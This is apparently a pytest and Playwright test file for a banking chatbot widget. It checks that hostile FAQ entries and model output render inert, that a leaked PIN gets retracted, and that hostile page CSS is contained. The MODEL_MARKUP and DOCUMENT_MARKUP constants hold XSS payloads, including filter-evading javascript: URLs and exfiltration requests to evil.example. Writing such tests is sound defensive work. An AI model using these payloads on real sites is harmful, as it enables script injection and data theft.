"""Untrusted text stays inert, and the host page cannot break the widget.

The hostile pages here carry no Content-Security-Policy on purpose: the widget's own
sanitising is under test, so a CSP must not be what stops an injected handler."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from chatbot.settings import Settings
from ingest.embeddings import Embedder
from tests.integration.chatbot.conftest import CHAT_KEY, ApiServer, variant
from tests.integration.chatbot.widget.conftest import Browsing, Chat, host_page, screenshot
from tests.integration.conftest import Ingest

# Model output the output rails missed: the classic payloads.
MODEL_MARKUP = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script> "
    "[Open the app](javascript:alert(3)) ![x](https://evil.example/x.png?q=secret) "
    '<a href="javascript:alert(4)" onclick="alert(5)">click</a> <svg onload=alert(6)></svg> '
    '<iframe src="javascript:alert(7)"></iframe>'
)
# A document reaches the visitor only if the server's retrieval rail lets it through, and that
# rail already drops the classic payloads above (an FAQ entry carrying them never becomes an
# answer). These are the ones it lets through, which a browser would still run or fetch: the
# widget must not rely on the server's screening.
DOCUMENT_MARKUP = (
    "<details open ontoggle=alert(1)><summary>More</summary>Details</details> "
    "<input autofocus onfocus=alert(2)> <marquee onstart=alert(3)>News</marquee> "
    "[Open the app](java&#115;cript:alert(4)) "
    '<a href="jav&#x09;ascript:alert(5)" onmouseover="alert(6)">click</a> '
    "![x](https://evil.example/screenshot.png) <img src=https://evil.example/pixel.png> "
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s></svg> "
    "<style>@import url(https://evil.example/s.css);</style> "
    '<form action="https://evil.example/"><input name=pin><button>Send</button></form> '
    '<object data="data:text/html,hi"></object>'
)
HOSTILE_FAQ = {
    "id": "travel-001",
    "question": "How do I order a Northwind travel money card?",
    "answer": f"Order it in the app under Cards. {DOCUMENT_MARKUP} **Fees:** none.",
    "category": "cards",
    "url": "javascript:alert(8)",
}
# What sanitised Markdown may contain: text formatting, lists, tables and plain links.
ANSWER_TAGS = {
    "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "i", "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


def assert_inert(seen: Browsing, chat: Chat) -> None:
    seen.page.wait_for_timeout(500)  # time for any handler that slipped through to fire
    assert seen.dialogs == [], f"a script ran: {seen.dialogs}"
    found = chat.audit()
    assert found["active"] == [], found
    assert found["handlers"] == [], found
    assert found["js_urls"] == [], found
    assert found["page_images"] == 0, found
    assert set(found["answer_tags"]) <= ANSWER_TAGS, found
    assert not [url for url in seen.requests if "evil.example" in url]


@pytest.fixture
def hostile_api(
    tmp_path: Path, settings: Settings, embedder: Embedder, api_settings: Settings
) -> Iterator[ApiServer]:
    """An API with API keys whose index holds one FAQ entry full of markup."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "travel.json").write_text(json.dumps([HOSTILE_FAQ]))
    index = tmp_path / "index"
    Ingest(settings, embedder, index)(data)
    with ApiServer(variant(api_settings, data_dir=data, index_dir=index)) as server:
        yield server


def serve(page: Page, url: str, html: str) -> None:
    page.route(url, lambda route: route.fulfill(status=200, content_type="text/html", body=html))


def test_hostile_faq_answer_renders_inert(hostile_api: ApiServer, browsing: Browsing) -> None:
    page = browsing.page
    embed = f'<script src="/widget.js" data-api-key="{CHAT_KEY}" async></script>'
    serve(page, f"{hostile_api.url}/help", host_page("<h1>Help</h1>" + embed))
    page.goto(f"{hostile_api.url}/help")
    chat = Chat(page)
    chat.open()
    chat.ask(HOSTILE_FAQ["question"])
    answer = chat.answer(1)
    assert answer.get_attribute("data-answered-by") == "curated"
    bubble = answer.locator(".bubble")
    expect(bubble).to_contain_text("Order it in the app under Cards.")
    expect(bubble).to_contain_text("Fees: none.")
    expect(bubble.locator("strong")).to_have_text("Fees:")
    expect(bubble).to_contain_text("Open the app")  # the link's text, without its href
    stored = hostile_api.client.get(f"/v1/sessions/{chat.session_id()}").json()
    assert stored["turns"][0]["assistant"] == HOSTILE_FAQ["answer"]  # served verbatim
    # A citation URL that is not http(s) is shown as plain text, not as a link.
    expect(answer.locator(".sources a")).to_have_count(0)
    expect(answer.locator(".sources .source")).to_have_text(HOSTILE_FAQ["question"])
    assert_inert(browsing, chat)

    page.reload()  # the same answer from the stored history
    chat.open()
    chat.answer(1, timeout=30_000)
    expect(chat.answers().first.locator(".bubble")).to_contain_text("Fees: none.")
    assert_inert(browsing, chat)


def _stream(events: list[tuple[str, Any]]) -> str:
    return "".join(f"event: {name}\r\ndata: {json.dumps(data)}\r\n\r\n" for name, data in events)


def test_hostile_model_output_renders_inert(demo: ApiServer, browsing: Browsing) -> None:
    """Model output that the output rails missed, replayed as the stream would carry it."""
    page = browsing.page
    answer = f"You can do it in the app. {MODEL_MARKUP} Anything else?"
    tokens = [answer[i : i + 4] for i in range(0, len(answer), 4)]
    done = {
        "session_id": "replayed-session-0001",
        "message_id": "m1",
        "answer": answer,
        "answered_by": "model",
        "citations": [],
        "guardrails": {"blocked": False},
        "timings_ms": {},
    }
    body = _stream([*(("token", {"text": t}) for t in tokens), ("done", done)])
    page.route(
        "**/v1/chat/stream",
        lambda route: route.fulfill(status=200, content_type="text/event-stream", body=body),
    )
    serve(page, f"{demo.url}/shop", host_page('<script src="/widget.js" async></script>'))
    page.goto(f"{demo.url}/shop")
    chat = Chat(page)
    chat.open()
    chat.ask("How do I pay?")
    expect(chat.answer(1).locator(".bubble")).to_contain_text("Anything else?")
    assert_inert(browsing, chat)


def test_retract_replaces_the_streamed_answer(demo: ApiServer, browsing: Browsing) -> None:
    page = browsing.page
    fallback = "I can't answer that reliably. See [our FAQ](https://help.northwind.example/)."
    done = {
        "session_id": "replayed-session-0002",
        "message_id": "m2",
        "answer": fallback,
        "answered_by": "model",
        "citations": [],
        "guardrails": {"blocked": True, "retracted": True, "reason": "output_check"},
        "timings_ms": {},
    }
    body = _stream(
        [
            ("token", {"text": "Your PIN is "}),
            ("token", {"text": "1234"}),
            ("retract", {"text": fallback, "reason": "output_check"}),
            ("done", done),
        ]
    )
    page.route(
        "**/v1/chat/stream",
        lambda route: route.fulfill(status=200, content_type="text/event-stream", body=body),
    )
    page.goto(f"{demo.url}/")
    chat = Chat(page)
    chat.open()
    chat.ask("What is my PIN?")
    answer = chat.answer(1)
    expect(answer.locator(".bubble")).to_have_text("I can't answer that reliably. See our FAQ.")
    expect(answer.locator(".bubble a")).to_have_attribute("href", "https://help.northwind.example/")
    expect(answer).not_to_contain_text("1234")
    expect(answer.locator("p.note")).to_contain_text("withdrawn")
    expect(answer.get_by_role("button", name="Talk to a person")).to_be_visible()


HOSTILE_CSS = """
html { font-size: 3px; }
button, div, input, textarea, section, header, form, p, span, ul, li, a, h2, svg, i {
  all: unset; font-size: 2px; color: red !important; }
* { box-sizing: content-box !important; line-height: 0 !important;
    letter-spacing: 6px !important; font-family: "Comic Sans MS", cursive !important;
    text-transform: uppercase !important; }
body > * { position: relative !important; display: inline !important;
           opacity: .4 !important; font-size: 40px !important; }
svg { width: 300px !important; height: 300px !important; }
"""


def _style(page: Page, selector: str, *names: str) -> dict[str, str]:
    styles: dict[str, str] = page.locator(selector).evaluate(
        "(e, names) => Object.fromEntries(names.map((n) => [n, getComputedStyle(e)[n]]))",
        list(names),
    )
    return styles


def test_hostile_page_css_cannot_break_the_widget(demo: ApiServer, browsing: Browsing) -> None:
    page = browsing.page
    html = host_page(
        "<main><p id='host-text'>Our shop</p></main><script src='/widget.js' async></script>",
        head=f"<style>{HOSTILE_CSS}</style>",
    )
    serve(page, f"{demo.url}/hostile", html)
    page.goto(f"{demo.url}/hostile")
    chat = Chat(page)
    expect(chat.launcher).to_be_visible()
    box = chat.launcher.bounding_box()
    assert box is not None
    assert (box["width"], box["height"]) == (56, 56)
    assert (box["x"] + box["width"], box["y"] + box["height"]) == (1280 - 20, 800 - 20)
    icon = page.locator("chatbot-widget .launcher svg").first.bounding_box()
    assert icon is not None and icon["width"] == 26

    chat.open()
    panel = chat.panel.bounding_box()
    assert panel is not None
    assert (panel["width"], panel["height"]) == (380, 600)
    assert panel["x"] + panel["width"] == 1280 - 20
    field = _style(page, "chatbot-widget #input", "fontSize", "color", "letterSpacing")
    assert field == {"fontSize": "15px", "color": "rgb(27, 36, 48)", "letterSpacing": "normal"}
    title = _style(page, "chatbot-widget h2", "fontSize", "textTransform", "lineHeight")
    assert title["fontSize"] == "16px" and title["textTransform"] == "none"
    assert title["lineHeight"] != "0px"

    chat.ask("Hello!")
    bubble = chat.answer(1).locator(".bubble")
    expect(bubble).to_contain_text("Northwind")
    text = _style(page, "chatbot-widget .msg.bot:not(.welcome) .bubble", "fontSize", "opacity")
    assert text == {"fontSize": "15px", "opacity": "1"}
    size = bubble.bounding_box()
    assert size is not None and size["height"] > 30 and size["width"] > 150
    # ... and the widget's styles do not leak onto the page.
    host = _style(page, "#host-text", "fontSize", "color")
    assert host == {"fontSize": "2px", "color": "rgb(255, 0, 0)"}
    screenshot(page, "widget-hostile-css.png")
